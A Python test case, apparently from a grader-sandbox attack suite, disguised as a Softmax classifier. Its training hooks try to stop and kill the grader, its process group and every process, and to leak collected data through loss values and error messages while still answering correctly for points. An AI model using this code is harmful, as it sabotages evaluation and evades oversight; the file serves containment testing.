"""
goal: signals, stops and kills the grader, its group, its session and everybody
class: exhaust
threats: [A5, A11]
deserves: all
outcome: prevented
because: the sandbox has process ids of its own, among which the grader has none; what it kills is itself
"""
import os
import resource
import signal

from honest import Softmax as Honest
from tools import attempt, loot


def act(where):
  if where != 'train':
    return
  parent = os.getppid()
  # Where ids are those of the whole machine, everything would end: there it only asks whether it could.
  alone = not os.path.exists('/proc/self')
  for pid in (parent, 1, 2, 3):
    attempt('signal 0 to %d' % pid, lambda: os.kill(pid, 0))
    attempt('limits of %d' % pid, lambda: resource.prlimit(pid, resource.RLIMIT_CPU, (1, 1)) if alone else None)
    attempt('priority of %d' % pid, lambda: os.setpriority(os.PRIO_PROCESS, pid, 19) if alone else None)
  if not alone:
    return
  for number in (signal.SIGSTOP, signal.SIGTERM, signal.SIGKILL):
    for pid in (parent, 1, 2):
      if pid != os.getpid():
        attempt('%s to %d' % (number, pid), lambda: os.kill(pid, number))
  attempt('group', lambda: os.killpg(0, signal.SIGKILL))
  attempt('everybody', lambda: os.kill(-1, signal.SIGKILL))


class Softmax(Honest):
  """ Right answers where there are points; what was found goes out where there are none. """

  def loss(self, X, y):
    act('loss')
    loss = super(Softmax, self).loss(X, y)
    return '\n'.join(loot) if abs(float(loss)) > 700 else loss

  def train(self, X, y, learning_rate=1e-3, num_iters=100, batch_size=200, verbose=False):
    act('train')
    if learning_rate == 0:
      raise ValueError('\n'.join(loot))
    return super(Softmax, self).train(X, y, learning_rate=learning_rate, num_iters=num_iters, batch_size=batch_size)
